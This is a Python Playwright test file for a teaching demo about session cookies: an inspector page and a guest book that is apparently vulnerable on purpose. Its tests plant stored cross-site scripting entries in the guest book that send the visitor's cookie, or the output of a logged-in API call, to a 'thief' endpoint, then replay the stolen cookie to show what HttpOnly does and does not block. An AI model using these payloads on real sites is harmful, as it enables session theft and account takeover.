"""The inspector page and the guest book, used as a learner uses them."""

from __future__ import annotations

import re

import pytest
import requests
from flask import session
from playwright.sync_api import BrowserContext, Page, expect

from demo_app import CookieOptions, Server, SessionOptions, create_app, serve
from tests.browser.looks import cut_off, hard_to_read, luminance, texts
from tests.browser.site import Site, serve_under_any_name
from tests.browser.use import press, wait_until_idle

THEFT = """Nice page <img src=x onerror="fetch('thief?loot=' + encodeURIComponent(document.cookie))">"""


def options(**cookie) -> SessionOptions:
    return SessionOptions(name="mycookie", secret="s", cookie=CookieOptions(**cookie))


def at(server: Server, host: str) -> str:
    """The server's address under another name of this machine."""
    return server.url.replace("127.0.0.1", host)


def card(page: Page, name: str) -> str:
    return page.locator(f"#{name}").inner_text()


class TestThePage:
    def test_a_visit_sets_the_cookie_and_the_next_one_carries_it(self, page):
        with serve(options()) as server:
            page.goto(server.url)
            expect(page.locator("#sent")).to_have_text("Cookie: (none)")
            press(page, "Visit")
            assert card(page, "sent") == "Cookie: (none)"
            assert re.fullmatch(r"Set-Cookie: mycookie=s%3A\S+; Path=/; HttpOnly", card(page, "answered"))
            assert card(page, "result") == 'GET /api/visits: 200 {"visits":1}'
            press(page, "Visit")
            assert card(page, "sent").startswith("Cookie: mycookie=s%3A")
            assert card(page, "answered") == "(no Set-Cookie)"
            assert card(page, "data") == '{"visits":2}'
            assert card(page, "scripts") == "document.cookie: (empty)"
            assert (card(page, "ends"), card(page, "sessions")) == ("with the browser session", "1 session")

    def test_scripts_see_a_cookie_that_is_not_httponly(self, page):
        with serve(options(httponly=False)) as server:
            page.goto(server.url)
            press(page, "Visit", "Visit")
            assert card(page, "scripts") == f"document.cookie: {card(page, 'sent').removeprefix('Cookie: ')}"

    def test_every_button_does_what_it_says(self, page):
        with serve(options()) as server:
            page.goto(server.url)
            press(page, "Log in as ada")
            first = card(page, "sid")
            assert card(page, "data") == '{"user":"ada"}'
            press(page, "Peek")
            assert card(page, "sid") == first
            press(page, "New session")
            assert card(page, "sid") not in ("", first)
            assert card(page, "data") == "{}"
            press(page, "Log in as ada", "Log out")
            assert card(page, "data") == "none under this id"

    def test_a_cookie_that_the_browser_refuses_is_pointed_out(self, page):
        refused = page.get_by_text("did not send this cookie back")
        with serve_under_any_name(SessionOptions(name="__Host-id", secret="s")) as server:
            page.goto(at(server, "shop.example"))
            expect(refused).to_be_hidden()
            press(page, "Visit", "Visit")
            expect(refused).to_be_visible()
            assert card(page, "sid") == "none: no cookie came"

    def test_it_works_over_https_too(self, page):
        with serve_under_any_name(options(secure=True), https=True) as server:
            page.goto(at(server, "shop.example"))
            press(page, "Visit", "Visit")
            assert card(page, "data") == '{"visits":2}'

    def test_it_works_by_keyboard_alone(self, page):
        with serve(options()) as server:
            page.goto(server.url)
            for button in ("Visit", "Peek", "Log in as ada", "Log out", "New session"):
                page.keyboard.press("Tab")
                assert page.evaluate("document.activeElement.textContent") == button
                assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
            page.keyboard.press("Shift+Tab")
            page.keyboard.press("Shift+Tab")
            page.keyboard.press("Enter")
            wait_until_idle(page)
            assert card(page, "result") == 'POST /api/login: 200 {"user":"ada"}'
            assert page.locator("#result").get_attribute("role") == "status"  # a screen reader says it

    def test_what_a_session_holds_is_text(self, page):
        app = create_app(options())
        hostile = "<img src=x onerror=alert(1)>"

        @app.get("/api/hostile")
        def hold():
            session["<b>"] = hostile
            return ""

        with serve(app) as server:
            page.goto(server.url)
            page.evaluate("fetch('api/hostile')")
            press(page, "Peek")
            expect(page.locator("#data")).to_contain_text(hostile)
            assert page.locator("#data *").count() == 0

    def test_a_script_that_gets_into_it_does_not_run(self, page, browser):
        with serve(options()) as server:
            inspector = browser.new_page()  # without the fixture, because the browser complains
            inspector.goto(server.url)
            inspector.evaluate("""() => {
                const script = document.createElement("script");
                script.textContent = "document.title = 'stolen'";
                document.body.append(script);
            }""")
            assert inspector.title() == "Session inspector"
            inspector.close()


class TestInAFrame:
    """As notebooks show it."""

    FRAME = "url => { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }"

    @pytest.mark.parametrize(("outer", "kept"), [("127.0.0.1", True), ("localhost", False)])
    def test_a_frame_of_another_site_loses_the_cookie(self, page, outer, kept):
        """``localhost`` and ``127.0.0.1`` are two sites: why ``browse()`` takes the name in the address bar."""
        with serve(Site()) as notebook, serve(options()) as server:
            page.goto(at(notebook, outer))
            page.evaluate(self.FRAME, server.url)
            frame = page.frame_locator("iframe")
            press(frame, "Visit", "Visit")
            expect(frame.locator("#result")).to_contain_text('{"visits":2}' if kept else '{"visits":1}')

    def test_no_other_site_can_frame_it(self, browser):
        outer = browser.new_page()
        with serve_under_any_name(Site()) as site, serve_under_any_name(options()) as server:
            outer.goto(at(site, "other.example"))
            with outer.expect_event("console", lambda message: "frame-ancestors" in message.text):
                outer.evaluate(self.FRAME, at(server, "shop.example"))
        outer.close()


class TestHowItLooks:
    @pytest.fixture(params=["inspector", "guest book"])
    def url(self, request):
        app = create_app(options(httponly=False, max_age=3600), guest_book=True)
        with serve(app) as running:
            yield f"{running.url}{'/' if request.param == 'inspector' else app.extensions['guest_book']}"

    @pytest.mark.parametrize("scheme", ["light", "dark"])
    def test_text_stands_out_in_both_themes(self, page, url, scheme):
        page.emulate_media(color_scheme=scheme)
        page.goto(url)
        body = page.locator("body")
        found = texts(body)
        assert len(found) >= 6
        assert hard_to_read(body) == {}
        assert {luminance(ground) < luminance(colour) for _, colour, ground in found} == {scheme == "dark"}

    @pytest.mark.parametrize("scheme", ["light", "dark"])
    def test_axe_finds_nothing(self, page, url, scheme, axe):
        page.emulate_media(color_scheme=scheme)
        page.goto(url)
        if "guestbook" not in url:
            press(page, "Visit", "Log in as ada")
        assert axe(page) == []

    @pytest.mark.parametrize("width", [360, 768, 1280])
    def test_nothing_is_cut_off(self, page, url, width):
        page.set_viewport_size({"width": width, "height": 740})
        page.goto(url)
        if "guestbook" not in url:
            press(page, "Log in as ada", "Peek")  # the longest values there are
        assert cut_off(page.locator("body")) == []
        assert page.evaluate("document.scrollingElement.scrollWidth") <= width


class TestTheGuestBook:
    @pytest.mark.parametrize("httponly", [False, True])
    def test_a_thief_gets_what_scripts_can_see(self, browser: BrowserContext, httponly):
        browser.clear_cookies()
        victim = browser.new_page()  # the picture that does not exist is what the browser complains of
        app = create_app(options(httponly=httponly), guest_book=True)
        with serve(app) as server:
            book = f"{server.url}{app.extensions['guest_book']}"
            requests.post(book, data={"entry": THEFT})
            victim.goto(server.url)
            press(victim, "Log in as ada")
            with victim.expect_response(re.compile(r"/thief\?loot=")):
                victim.goto(book)
            (loot,) = requests.get(f"{book}thief/loot").json()
            (cookie,) = browser.cookies()
            answer = requests.get(f"{server.url}/api/me", headers={"Cookie": loot})
        victim.close()
        if httponly:
            assert (loot, answer.status_code) == ("", 401)
        else:
            assert loot == f"mycookie={cookie['value']}"
            assert answer.json() == {"user": "ada"}

    def test_a_script_in_it_acts_for_the_victim_all_the_same(self, browser: BrowserContext):
        """What ``HttpOnly`` does not stop."""
        entry = "<img src=x onerror=\"fetch('/api/me').then(r => r.text()).then(t => fetch('thief?loot=' + t))\">"
        browser.clear_cookies()
        victim = browser.new_page()
        app = create_app(options(), guest_book=True)
        with serve(app) as server:
            book = f"{server.url}{app.extensions['guest_book']}"
            requests.post(book, data={"entry": entry})
            victim.goto(server.url)
            press(victim, "Log in as ada")
            with victim.expect_response(re.compile(r"/thief\?loot=")):
                victim.goto(book)
            assert "ada" in requests.get(f"{book}thief/loot").text
        victim.close()

    @pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
    def test_its_own_form_writes_to_it(self, page, host):
        app = create_app(options(), guest_book=True)
        with serve(app) as server:
            page.goto(f"{at(server, host)}{app.extensions['guest_book']}")
            page.get_by_label("Your entry").fill("Hello")
            page.get_by_role("button", name="Sign the guest book").click()
            expect(page.get_by_role("listitem")).to_have_text("Hello")
            page.get_by_role("link", name="Session inspector").click()
            expect(page).to_have_title("Session inspector")
